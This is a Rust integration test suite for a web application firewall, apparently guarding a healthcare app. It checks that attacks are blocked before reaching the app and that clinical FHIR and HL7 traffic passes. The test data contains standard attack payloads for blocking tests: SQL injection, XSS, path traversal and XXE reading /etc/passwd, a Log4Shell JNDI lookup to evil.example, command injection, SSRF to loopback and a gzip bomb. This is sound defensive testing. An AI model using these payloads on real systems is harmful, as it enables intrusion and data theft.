//! Inspection through the real binary: an attack in every part of a request is blocked before the
//! app sees it, with the rule that fired in the audit event; clinical traffic passes.
#![allow(clippy::unwrap_used, missing_docs)]

mod common;

use std::time::Duration;

use common::*;

/// Starts palisade (block mode, defaults) in front of the echo app and waits until it serves.
fn start(extra: &[(&str, &str)]) -> Palisade {
    let mut b = Builder::new();
    for (k, v) in extra {
        b = b.env(k, v);
    }
    let p = b.app("python3 app.py").start();
    p.wait_app_ready();
    p
}

fn send(p: &Palisade, raw: String) -> Response {
    request(p.addr(), raw.as_bytes())
}

fn post(path: &str, content_type: &str, body: &str, rid: &str) -> String {
    format!(
        "POST {path} HTTP/1.1\r\nHost: t\r\nContent-Type: {content_type}\r\nContent-Length: {}\r\nX-Request-Id: {rid}\r\nConnection: close\r\n\r\n{body}",
        body.len()
    )
}

fn get(path_and_query: &str, extra_headers: &str, rid: &str) -> String {
    format!("GET {path_and_query} HTTP/1.1\r\nHost: t\r\n{extra_headers}X-Request-Id: {rid}\r\nConnection: close\r\n\r\n")
}

/// The security event for a request id (the WAF's block or monitor line).
fn security_event(p: &Palisade, rid: &str) -> Option<serde_json::Value> {
    std::thread::sleep(Duration::from_millis(150));
    p.stdout_lines()
        .iter()
        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
        .find(|v| v["http.request.id"] == rid && v["event.kind"] == "alert")
}

fn app_saw(p: &Palisade, marker: &str) -> bool {
    std::thread::sleep(Duration::from_millis(100));
    p.stderr_lines()
        .iter()
        .any(|l| l.starts_with("python-echo:") && l.contains(marker))
}

fn rid(n: u32) -> String {
    format!("inspection-test-request-{n:04}-{}", std::process::id())
}

#[test]
fn attacks_in_every_place_are_blocked_before_the_app_sees_them() {
    let p = start(&[]);
    let boundary = "XyZboundary";
    let multipart_field = format!(
        "--{boundary}\r\nContent-Disposition: form-data; name=\"comment\"\r\n\r\n1' UNION SELECT password FROM users--\r\n--{boundary}--\r\n"
    );
    let multipart_filename = format!(
        "--{boundary}\r\nContent-Disposition: form-data; name=\"f\"; filename=\"../../../../etc/passwd\"\r\nContent-Type: text/plain\r\n\r\nhello\r\n--{boundary}--\r\n"
    );
    let cases: Vec<(&str, String)> = vec![
        (
            "path",
            "/files/..%2f..%2f..%2f..%2fetc%2fpasswd".to_string(),
        ),
        (
            "query",
            "/search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E".to_string(),
        ),
        ("header", "/h".to_string()),
        ("cookie", "/c".to_string()),
        ("form", "/form".to_string()),
        ("json", "/fhir/Patient".to_string()),
        ("fhir-json", "/fhir/Observation".to_string()),
        ("multipart-field", "/upload".to_string()),
        ("multipart-filename", "/upload2".to_string()),
        ("xml", "/ccda".to_string()),
        ("xxe", "/ccda2".to_string()),
    ];
    for (i, (place, path)) in cases.iter().enumerate() {
        let id = rid(100 + i as u32);
        let marker = path.to_string();
        let raw = match *place {
            "header" => get(path, "X-Api-Version: ${jndi:ldap://evil.example/a}\r\n", &id),
            "cookie" => get(path, "Cookie: session=abc; pref=1 AND 1=1 UNION SELECT username,password FROM users\r\n", &id),
            "form" => post(path, "application/x-www-form-urlencoded", "name=x&cmd=%3Bcat+%2Fetc%2Fpasswd", &id),
            "json" => post(path, "application/json", r#"{"name":[{"family":"Smith","given":["<img src=x onerror=alert(1)>"]}]}"#, &id),
            "fhir-json" => post(path, "application/fhir+json", r#"{"resourceType":"Observation","note":[{"text":"'; DROP TABLE patients; --"}]}"#, &id),
            "multipart-field" => post(path, &format!("multipart/form-data; boundary={boundary}"), &multipart_field, &id),
            "multipart-filename" => post(path, &format!("multipart/form-data; boundary={boundary}"), &multipart_filename, &id),
            "xml" => post(path, "application/xml", "<ClinicalDocument><title><script>alert(1)</script></title></ClinicalDocument>", &id),
            "xxe" => post(path, "application/xml", "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>", &id),
            _ => get(path, "", &id),
        };
        let resp = send(&p, raw);
        assert_eq!(resp.status, 403, "{place}: {}", resp.text());
        let ev = security_event(&p, &id).unwrap_or_else(|| panic!("{place}: no security event"));
        assert_eq!(ev["palisade.action"], "block", "{place}: {ev}");
        let rules = ev["rule.id"].as_array().map_or(0, Vec::len);
        assert!(rules > 0, "{place}: the event names no rule: {ev}");
        assert!(
            !app_saw(&p, &marker),
            "{place}: the app saw the blocked request"
        );
        // A clean request on a fresh connection still passes.
        let clean = send(&p, get("/after", "", &rid(500 + i as u32)));
        assert_eq!(clean.status, 200, "{place}: clean request after the block");
    }
}

#[test]
fn a_large_body_is_held_until_inspected() {
    let p = start(&[]);
    // 100 KiB of benign JSON with the attack at the very end: beyond the 64 KiB read-ahead, so the
    // body is held chunk by chunk and released only after inspection.
    let filler = "a".repeat(100 * 1024);
    let body = format!(r#"{{"note":"{filler}","x":"<svg onload=alert(1)>"}}"#);
    let id = rid(1);
    let resp = send(&p, post("/big-json", "application/json", &body, &id));
    assert_eq!(resp.status, 403);
    assert!(security_event(&p, &id).is_some());
    // Past the 64 KiB read-ahead the app may have seen the (already inspected, clean) request
    // head, but not one byte of the body: the request is aborted before the body is released.
    std::thread::sleep(Duration::from_millis(200));
    let seen: Vec<String> = p
        .stderr_lines()
        .into_iter()
        .filter(|l| l.contains("received POST /big-json "))
        .collect();
    assert!(
        seen.iter().all(|l| l.ends_with("body_length=0")),
        "the app received body bytes of a blocked request: {seen:?}"
    );
    // And a clean one of the same size passes intact.
    let clean = format!(r#"{{"note":"{filler}"}}"#);
    let resp = send(
        &p,
        post("/big-json-ok", "application/json", &clean, &rid(2)),
    );
    assert_eq!(resp.status, 200);
    assert_eq!(resp.json()["body_length"], clean.len());
}

#[test]
fn clinical_traffic_passes() {
    let p = start(&[]);
    let fhir = r#"{"resourceType":"Patient","id":"example","meta":{"profile":["http://hl7.org/fhir/us/core/StructureDefinition/us-core-patient"]},
      "text":{"status":"generated","div":"<div xmlns=\"http://www.w3.org/1999/xhtml\"><p>Patient: <b>Jane Doe</b></p><table style=\"border: 1px\"><tr><td>MRN</td><td>12345</td></tr></table></div>"},
      "name":[{"family":"O'Reilly","given":["Jane"]}],
      "extension":[{"url":"http://hl7.org/fhir/us/core/StructureDefinition/us-core-race","valueCoding":{"system":"urn:oid:2.16.840.1.113883.6.238","code":"2106-3","display":"White"}}]}"#;
    let obs = r#"{"resourceType":"AllergyIntolerance","code":{"coding":[{"system":"http://snomed.info/sct","code":"102263004","display":"Eggs (edible) (substance)"}]},
      "note":[{"text":"Patient reports drop in blood pressure; select specialty hospital for follow-up; union of fracture confirmed. Watch for dizziness | recheck in 2 weeks."}]}"#;
    let hl7 = "MSH|^~\\&|EPIC|HOSP|LAB|HOSP|202401011200||ADT^A01|MSG0001|P|2.5\rPID|1||12345^^^MRN||Doe^John^Q||19800101|M|||123 Main St^^Springfield^IL^62701\rOBX|1|NM|8867-4^Heart rate^LN||72|/min|60-100|N|||F\r";
    let cases = [
        ("/fhir/Patient", "application/fhir+json", fhir.to_string()),
        ("/fhir/AllergyIntolerance", "application/fhir+json", obs.to_string()),
        ("/hl7", "text/plain", hl7.to_string()),
        ("/notes", "application/x-www-form-urlencoded", "note=Patient+was+told+to+select+a+time+to+drop+off+samples%3B+union+rep+called.&plan=1+tab+daily+(PO)".to_string()),
    ];
    for (i, (path, ct, body)) in cases.iter().enumerate() {
        let resp = send(&p, post(path, ct, body, &rid(200 + i as u32)));
        assert_eq!(resp.status, 200, "{path}: {}", resp.text());
        assert_eq!(resp.json()["body_length"], body.len());
    }
    let smart = "/authorize?response_type=code&client_id=app&redirect_uri=https%3A%2F%2Fapp.example.org%2Fcallback&scope=launch%2Fpatient%20patient%2F*.rs%20openid%20fhirUser&state=abc123&aud=https%3A%2F%2Ffhir.example.org%2Fr4";
    let resp = send(&p, get(smart, "", &rid(300)));
    assert_eq!(resp.status, 200, "SMART authorize: {}", resp.text());
}

/// Intake forms name their text areas anything, so the rules must tell prose from syntax: these
/// lines were blocked before (150100, 240150, 240170, 220100), and reach the app whole now. A FHIR
/// Subscription whose endpoint is the dyno's own Redis is refused by 180111.
#[test]
fn intake_prose_reaches_the_app_and_a_subscription_to_loopback_does_not() {
    let p = start(&[]);
    let form =
        "symptoms=BP+stable%3B+echo+shows+EF+35%25%0D%0ALocation%3A+left+knee%2C+worse+on+stairs\
        &plan=Refill+sent%3B+call+pharmacy+to+confirm%3B+begin+PT+next+week\
        &details=Union+Hospital+summary+attached%3B+select+records+from+2019-2022+requested\
        &imaging=Chest%0D%0AX-ray%3A+no+acute+findings%3B+cat+scan+ordered";
    let json = r#"{"reason":"Anxious; sleep poor, 4-5h/night","message":"Seen today; exec summary sent to Dr. O'Brien & the care team","other":"Allergy noted; insert into chart"}"#;
    for (i, (path, ct, body)) in [
        ("/intake", "application/x-www-form-urlencoded", form),
        ("/api/intake", "application/json", json),
    ]
    .into_iter()
    .enumerate()
    {
        let resp = send(&p, post(path, ct, body, &rid(600 + i as u32)));
        assert_eq!(resp.status, 200, "{path}: {}", resp.text());
        assert_eq!(resp.json()["body_length"], body.len());
    }
    let subscription = r#"{"resourceType":"Subscription","status":"requested","criteria":"Observation?code=8867-4","channel":{"type":"rest-hook","endpoint":"http://0x7f.1:6379/","payload":"application/fhir+json"}}"#;
    let id = rid(610);
    let resp = send(
        &p,
        post(
            "/fhir/Subscription",
            "application/fhir+json",
            subscription,
            &id,
        ),
    );
    assert_eq!(resp.status, 403, "{}", resp.text());
    let ev = security_event(&p, &id).expect("security event");
    let rules: Vec<&str> = ev["rule.id"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|r| r.as_str())
        .collect();
    assert!(rules.contains(&"180111"), "{ev}");
}

#[test]
fn monitor_mode_logs_but_forwards() {
    let p = start(&[("PALISADE_MODE", "monitor")]);
    let id = rid(3);
    let resp = send(&p, get("/search?q=%27%20OR%20%271%27%3D%271", "", &id));
    assert_eq!(resp.status, 200);
    let ev = security_event(&p, &id).expect("monitor event");
    assert_eq!(ev["palisade.action"], "monitor");
}

#[test]
fn bodies_over_the_inspection_limit() {
    let p = start(&[("PALISADE_MAX_INSPECT_BODY", "16KiB")]);
    let body = format!(r#"{{"note":"{}"}}"#, "b".repeat(100 * 1024));
    let resp = send(&p, post("/too-big", "application/json", &body, &rid(4)));
    assert_eq!(resp.status, 413);
    // Binary uploads are not inspected and stream through whatever their size.
    let bin = media(2 << 20);
    let resp = request(
        p.addr(),
        &post_bytes(
            "/upload.bin",
            "application/octet-stream",
            "",
            &bin,
            false,
            &rid(5),
        ),
    );
    assert_eq!(resp.status, 200);
    assert_eq!(resp.json()["body_sha256"], sha256_hex(&bin));
    // Text labelled as media is a body like any other: over the limit, refused.
    let text = "z".repeat(2 << 20);
    let resp = send(
        &p,
        post("/upload.txt", "application/octet-stream", &text, &rid(7)),
    );
    assert_eq!(resp.status, 413);

    let p = start(&[
        ("PALISADE_MAX_INSPECT_BODY", "16KiB"),
        ("PALISADE_OVERSIZE_BODY", "pass"),
    ]);
    let resp = send(&p, post("/too-big", "application/json", &body, &rid(6)));
    assert_eq!(resp.status, 200);
    assert_eq!(resp.json()["body_length"], body.len());
}

#[test]
fn explain_names_the_rule_and_the_verdict() {
    let dir = std::env::temp_dir().join(format!("palisade-explain-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let file = dir.join("req.http");
    std::fs::write(
        &file,
        "GET /?id=1%27%20UNION%20SELECT%20password%20FROM%20users-- HTTP/1.1\nHost: x\n\n",
    )
    .unwrap();
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_palisade"))
        .current_dir(&dir)
        .env_clear()
        .arg("explain")
        .arg(&file)
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(out.status.success(), "{text}");
    assert!(text.contains("[sqli]"), "{text}");
    assert!(text.contains("target: args:id"), "{text}");
    assert!(text.contains("BLOCK"), "{text}");
}

/// A compressed-body case: what is sent, and the rule that must fire.
struct Encoded {
    case: &'static str,
    path: &'static str,
    ct: &'static str,
    coding: &'static str,
    body: Vec<u8>,
    chunked: bool,
    rule: u32,
}

/// A POST of raw body bytes sent with `Content-Encoding: coding`; chunked when asked.
fn post_encoded(
    path: &str,
    ct: &str,
    coding: &str,
    body: &[u8],
    chunked: bool,
    rid: &str,
) -> Vec<u8> {
    let extra = format!("Content-Encoding: {coding}\r\n");
    post_bytes(path, ct, &extra, body, chunked, rid)
}

/// A POST of raw body bytes with extra header lines; chunked (one chunk) when asked.
fn post_bytes(
    path: &str,
    ct: &str,
    extra_headers: &str,
    body: &[u8],
    chunked: bool,
    rid: &str,
) -> Vec<u8> {
    let framing = if chunked {
        "Transfer-Encoding: chunked".to_string()
    } else {
        format!("Content-Length: {}", body.len())
    };
    let mut raw = format!(
        "POST {path} HTTP/1.1\r\nHost: t\r\nContent-Type: {ct}\r\n{extra_headers}{framing}\r\nX-Request-Id: {rid}\r\nConnection: close\r\n\r\n"
    )
    .into_bytes();
    if chunked {
        raw.extend_from_slice(format!("{:x}\r\n", body.len()).as_bytes());
        raw.extend_from_slice(body);
        raw.extend_from_slice(b"\r\n0\r\n\r\n");
    } else {
        raw.extend_from_slice(body);
    }
    raw
}

fn gzip(data: &[u8]) -> Vec<u8> {
    use std::io::Write;
    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    e.write_all(data).unwrap();
    e.finish().unwrap()
}

#[test]
fn compressed_bodies_are_inspected_as_the_app_will_inflate_them() {
    let p = start(&[]);
    let form = "application/x-www-form-urlencoded";
    let sqli = gzip(b"name=x&id=1%20UNION%20ALL%20SELECT%20NULL,version()--");
    let cases = [
        Encoded {
            case: "gzip form",
            path: "/gz-form",
            ct: form,
            coding: "gzip",
            body: sqli.clone(),
            chunked: false,
            rule: 240100,
        },
        Encoded {
            case: "gzip form, chunked",
            path: "/gz-chunked",
            ct: form,
            coding: "gzip",
            body: sqli,
            chunked: true,
            rule: 240100,
        },
        Encoded {
            case: "brotli",
            path: "/br",
            ct: form,
            coding: "br",
            body: b"\x1b\x03\x00".to_vec(),
            chunked: false,
            rule: 100350,
        },
        Encoded {
            case: "not gzip at all",
            path: "/gz-fake",
            ct: form,
            coding: "gzip",
            body: b"id=1".to_vec(),
            chunked: false,
            rule: 100360,
        },
        Encoded {
            case: "bomb",
            path: "/gz-bomb",
            ct: "text/plain",
            coding: "gzip",
            body: gzip(&vec![b'a'; 4 << 20]),
            chunked: false,
            rule: 100370,
        },
    ];
    for (i, c) in cases.iter().enumerate() {
        let id = rid(600 + i as u32);
        let resp = request(
            p.addr(),
            &post_encoded(c.path, c.ct, c.coding, &c.body, c.chunked, &id),
        );
        let case = c.case;
        assert_eq!(resp.status, 403, "{case}: {}", resp.text());
        let ev = security_event(&p, &id).unwrap_or_else(|| panic!("{case}: no security event"));
        let rule = c.rule.to_string();
        let fired = ev["rule.id"]
            .as_array()
            .is_some_and(|ids| ids.iter().any(|id| id.as_str() == Some(&rule)));
        assert!(fired, "{case}: rule {rule} not in {ev}");
        assert!(
            !app_saw(&p, c.path),
            "{case}: the app saw the blocked request"
        );
    }
    // Clinical JSON, compressed, passes; the app gets the compressed bytes as sent.
    let note = br#"{"resourceType":"Observation","status":"final","note":[{"text":"Patient reports 2-3 episodes/week; BP 128/82 (left arm). Select a follow-up slot."}]}"#;
    let body = gzip(note);
    let resp = request(
        p.addr(),
        &post_encoded(
            "/gz-fhir",
            "application/fhir+json",
            "gzip",
            &body,
            false,
            &rid(650),
        ),
    );
    assert_eq!(resp.status, 200, "{}", resp.text());
    let seen = resp.json();
    assert_eq!(seen["body_sha256"], sha256_hex(&body), "{seen}");
    let coding = seen["headers"]
        .as_array()
        .and_then(|h| {
            h.iter().find(|kv| {
                kv[0]
                    .as_str()
                    .is_some_and(|k| k.eq_ignore_ascii_case("content-encoding"))
            })
        })
        .map(|kv| kv[1].clone());
    assert_eq!(coding, Some(serde_json::json!("gzip")), "{seen}");
}

/// `len` bytes of media: a PNG signature, then bytes of every value.
fn media(len: usize) -> Vec<u8> {
    let mut bytes = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR".to_vec();
    bytes.extend((0..len.saturating_sub(bytes.len())).map(|i| (i * 7 % 251) as u8));
    bytes
}

#[test]
fn binary_labels_do_not_hide_text_bodies() {
    // An app that parses whatever it is sent (`express.json({type: '*/*'})`, Flask's
    // `get_json(force=True)`) reads a JSON attack labelled image/png as JSON.
    let p = start(&[]);
    let json_xss = br#"{"name":[{"given":["<img src=x onerror=alert(1)>"]}]}"#.to_vec();
    let mut late = br#"{"note":""#.to_vec();
    late.extend(std::iter::repeat_n(b'a', 100 * 1024));
    late.extend_from_slice(br#"","x":"<img src=x onerror=alert(1)>"}"#);
    let form_sqli = b"id=1%20UNION%20ALL%20SELECT%20NULL,version()--".to_vec();
    // (case, content type, body, chunked, rule): read whole by the lane, or by Pingora's path
    // (chunked), where the first bytes are held, sniffed, and the rest held for inspection.
    let cases = [
        ("JSON as image/png", "image/png", &json_xss, false, 230110),
        (
            "JSON as image/png, chunked",
            "image/png",
            &json_xss,
            true,
            230110,
        ),
        (
            "attack past 100 KiB, chunked",
            "image/jpeg",
            &late,
            true,
            230110,
        ),
        (
            "form as octet-stream",
            "application/octet-stream",
            &form_sqli,
            false,
            240100,
        ),
    ];
    for (i, (case, ct, body, chunked, rule)) in cases.into_iter().enumerate() {
        let id = rid(800 + i as u32);
        let path = format!("/sniff-{i}");
        let resp = request(p.addr(), &post_bytes(&path, ct, "", body, chunked, &id));
        assert_eq!(resp.status, 403, "{case}: {}", resp.text());
        let ev = security_event(&p, &id).unwrap_or_else(|| panic!("{case}: no security event"));
        let rule = rule.to_string();
        assert!(
            ev["rule.id"]
                .as_array()
                .is_some_and(|ids| ids.iter().any(|r| r.as_str() == Some(&rule))),
            "{case}: rule {rule} not in {ev}"
        );
        assert!(
            !app_saw(&p, &path),
            "{case}: the app saw the blocked request"
        );
    }
    // Media passes byte for byte on both paths, markup inside it or not, and so does clinical
    // text labelled as media.
    let mut png = media(64);
    png.extend_from_slice(b"tEXtComment\0<script>alert(1)</script>");
    let big = media(3 << 20);
    let note = b"Discharge summary: select a follow-up slot; drop BP meds if < 100/60.".to_vec();
    let passes = [
        ("PNG with markup", "image/png", &png, false),
        ("PNG with markup, chunked", "image/png", &png, true),
        (
            "3 MiB of media, chunked",
            "application/octet-stream",
            &big,
            true,
        ),
        ("3 MiB of media", "application/octet-stream", &big, false),
        (
            "note as octet-stream",
            "application/octet-stream",
            &note,
            false,
        ),
    ];
    for (i, (case, ct, body, chunked)) in passes.into_iter().enumerate() {
        let raw = post_bytes("/media", ct, "", body, chunked, &rid(820 + i as u32));
        let resp = request(p.addr(), &raw);
        assert_eq!(resp.status, 200, "{case}: {}", resp.text());
        assert_eq!(resp.json()["body_sha256"], sha256_hex(body), "{case}");
    }
}

#[test]
fn two_content_types_are_refused() {
    // Node keeps the first Content-Type, servers that join fields read a list: either way the app
    // may read the body as another type than the one inspected.
    let p = start(&[]);
    let id = rid(700);
    let body = r#"{"q":"<img src=x onerror=alert(1)>"}"#;
    let raw = format!(
        "POST /two-types HTTP/1.1\r\nHost: t\r\nContent-Type: application/octet-stream\r\nContent-Type: application/json\r\nContent-Length: {}\r\nX-Request-Id: {id}\r\nConnection: close\r\n\r\n{body}",
        body.len()
    );
    let resp = send(&p, raw);
    assert_eq!(resp.status, 403, "{}", resp.text());
    let ev = security_event(&p, &id).expect("security event");
    assert!(
        ev["rule.id"]
            .as_array()
            .is_some_and(|ids| ids.iter().any(|r| r == "100380")),
        "{ev}"
    );
    assert!(!app_saw(&p, "/two-types"));
}
